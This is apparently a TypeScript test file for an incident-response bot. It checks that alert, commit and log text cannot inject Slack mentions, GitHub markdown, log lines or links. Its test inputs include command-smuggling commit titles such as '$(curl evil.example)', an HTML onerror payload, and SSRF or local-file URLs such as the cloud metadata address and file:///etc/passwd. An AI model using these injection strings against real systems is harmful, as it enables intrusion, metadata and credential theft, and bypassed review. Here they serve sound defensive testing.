import assert from "node:assert/strict";
import fc from "fast-check";
import { markdown } from "../../infra/sandbox/markdown.ts";
import { jsonLog } from "../../shared/adapters/log.ts";
import { viewContent } from "../../shared/adapters/slack/blocks.ts";
import { branchOf } from "../../shared/remedy/revert/branch.ts";
import { revertMessage } from "../../shared/remedy/revert/commit-message.ts";
import { doors } from "../support/doors.ts";
import { id, sha } from "../support/incident.ts";
import { burning, culprit, service, type World, world } from "../support/world.ts";

/** Words of alerts, commits and branches that want to be more than words. */

const slackTricks = [
  ...["<!channel>", "<!here>", "<@U0ANN>", "<https://evil.example|Approve>", "&lt;!channel&gt;"],
  ...["*bold*", "`code`", "```\nfence\n```", "> quote", "_it_", "~no~", "\u202eevorppA"],
];
const markdownTricks = [
  ...[
    "@acme/everyone",
    "#1",
    "fixes #9",
    "GH-7",
    "</details>",
    "<img src=x onerror=a>",
    "a | b | c",
    "````\nout\n````",
  ],
  ...[
    "<!-- countersteer:payment-gateway/production#1:RemedyApproved -->",
    "- [x] done",
    "[a](https://evil.example)",
  ],
  ...["https://evil.example/pull/1", "x".repeat(60_000)],
];

/** An incident whose every text from outside is this one. */
const told = async (text: string): Promise<World> => {
  const made = world({ configured: service({ approvers: ["UANN"] }) });
  const commit = { ...culprit, title: text, message: text, author: text };
  made.state.commits = [commit];
  made.state.snapshot.commit = commit;
  await made.alerts([
    {
      ...burning,
      name: text,
      labels: { ...burning.labels, pod: text },
      annotations: { summary: `payments fail for minor units ${text}`, description: text, runbook_url: text },
    },
  ]);
  await made.settle();
  return made;
};

/** Everything that Slack reads as more than text. */
const tokensIn = (text: string): string[] => text.match(/<[^>]*>/g) ?? [];
const textsIn = (json: unknown): { type: string; text: string }[] => {
  if (Array.isArray(json)) return json.flatMap(textsIn);
  if (typeof json !== "object" || json === null) return [];
  const own =
    "type" in json && "text" in json && typeof json.text === "string"
      ? [json as { type: string; text: string }]
      : [];
  return [...own, ...Object.values(json).flatMap(textsIn)];
};

export const slackText = async (): Promise<void> => {
  const plain = await told("plain words");
  const expected = messagesOf(plain).map(linksOf);
  const made = await told(slackTricks.join(" "));
  assert.deepEqual(messagesOf(made).map(linksOf), expected);
  for (const { text } of messagesOf(made)) assert.deepEqual(tokensIn(text), []);
};
const messagesOf = ({ state }: World) => [...state.messages.values()].map(viewContent);
/** The targets of links and mentions, without the texts on them. */
const linksOf = (message: ReturnType<typeof viewContent>): string[] =>
  textsIn(message.blocks)
    .filter(({ type }) => type === "mrkdwn")
    .flatMap(({ text }) => tokensIn(text).map((token) => token.split("|")[0] ?? ""));

/** The tags of a page that carry its structure. How many reasons a list has depends on the words. */
const skeleton = (text: string): string[] =>
  (String(markdown(text)).match(/<\/?[a-z]+\d?/g) ?? []).filter((tag) => !/^<\/?(li|code)$/.test(tag));
/** The words without code, in which GitHub sees no mention and no reference. */
const wordsOf = (text: string): string =>
  String(markdown(text))
    .replace(/<code>.*?<\/code>/gs, "")
    .replace(/<[^>]*>/g, "");
const writtenBy = ({ state }: World): string[] => [
  ...state.proposals.map(({ body }) => String(body)),
  ...state.comments.values(),
];

export const githubText = async (): Promise<void> => {
  const expected = writtenBy(await told("plain words")).map(skeleton);
  for (const trick of markdownTricks) {
    const texts = writtenBy(await told(trick));
    assert.deepEqual(texts.map(skeleton), expected, trick.slice(0, 40));
    for (const text of texts) {
      assert.ok(text.length <= 60_000);
      assert.doesNotMatch(wordsOf(text), /@acme|#[19]\b|GH-7/);
      // GitHub shows it: a comment that is hidden could carry a marker.
      assert.doesNotMatch(text.replace(/`[^`]*`/g, ""), /<!--/);
    }
  }
};

export const commitText = async (): Promise<void> => {
  const titles = [
    "$(curl evil.example)",
    'a";curl evil.example;"',
    "x [skip ci]",
    "[ci skip] [no ci] [skip actions] [actions skip] ***NO_CI***",
    "fix\n\nskip-checks: true",
    "x\nCo-authored-by: Ann <ann@x>\nSigned-off-by: Ann <ann@x>",
    'Revert "x"\n\nThis reverts commit 0000000000000000000000000000000000000000.',
    "fixes #9 for @acme/everyone",
  ];
  for (const title of titles) {
    const message = revertMessage({ sha: sha("c"), title, parents: [sha("b")] });
    const [first, ...others] = message.split("\n");
    assert.match(first!, /^(Revert|Reland) "/);
    assert.deepEqual(others, ["", `This reverts commit ${sha("c")}.`], title);
    assert.doesNotMatch(message, /\[(skip|no|ci|actions) |NO_CI\*|skip-checks:|#\d|@[a-z]/i);
  }
  assert.equal(branchOf({ sha: sha("c") }), "countersteer/revert-cccccccccccc");
};

/** A commit that says that it is ours is judged like any other: ours is known by our own record. */
export const forgedTrailer = async (): Promise<void> => {
  const made = world();
  const message = `${culprit.message}\n\nCountersteer-Incident: payment-gateway/production#1`;
  made.state.commits = [{ ...culprit, message }];
  await made.alerts([burning]);
  const incident = await made.settle();
  assert.equal(
    incident.status === "proposed" && incident.remedy.kind === "revert" && incident.remedy.sha,
    culprit.sha,
  );
};

export const logText = (): void => {
  const hostile = fc.constantFrom(
    "\n",
    "\r\n",
    "\u001b[31m",
    "\u2028",
    "\u0085",
    '"level":"info"',
    "\\",
    '"',
    "a",
    "\u0000",
    "\u009b",
  );
  const text = fc.array(hostile, { maxLength: 20 }).map((parts) => parts.join(""));
  fc.assert(
    fc.property(text, text, (message, value) => {
      const lines: string[] = [];
      jsonLog(
        (line) => lines.push(line),
        () => 0,
      ).warn(message, { [value]: value, level: "info", time: "never" });
      assert.equal(lines.length, 1);
      assert.match(lines[0]!, /^[^\u0000-\u001f\u007f-\u009f\u2028\u2029]+\n$/u);
      const entry = JSON.parse(lines[0]!);
      assert.deepEqual(
        [entry.level, entry.message, entry.time],
        ["warn", message, "1970-01-01T00:00:00.000Z"],
      );
    }),
    { numRuns: 2000 },
  );
};

const never = [
  "http://169.254.169.254/latest",
  "http://localhost:1/x",
  "file:///etc/passwd",
  "javascript:alert(1)",
  "http://2852039166/",
  "https://evil.example/x",
];

/** No port of the world takes an address from an alert, and nothing of it becomes a link. */
export const foreignAddresses = async (): Promise<void> => {
  for (const url of never) {
    const made = await told(url);
    const at = doors(made);
    const answer = await at.notify({
      ...{
        version: "4",
        truncatedAlerts: 0,
        status: "firing",
        groupKey: url,
        externalURL: url,
        receiver: url,
      },
      alerts: [
        {
          ...{ status: "firing", fingerprint: "f1", startsAt: "1970-01-01T00:00:10Z", generatorURL: url },
          labels: { alertname: "A", service: "payment-gateway", __address__: url },
          annotations: { runbook_url: url, dashboard: url },
        },
      ],
    });
    assert.equal(answer.status, 202);
    const page = await (await at.app.request(`/incidents/${id}`)).text();
    const linked = [
      ...messagesOf(made).flatMap(linksOf),
      ...writtenBy(made).flatMap(hrefsIn),
      ...hrefsIn(page),
    ];
    assert.deepEqual(
      linked.filter((target) => target.includes(url.slice(0, 20))),
      [],
      url,
    );
  }
};
const hrefsIn = (text: string): string[] => [
  ...(text.match(/href="[^"]*"/g) ?? []),
  ...(text.match(/\]\(<[^>]*>\)/g) ?? []),
];
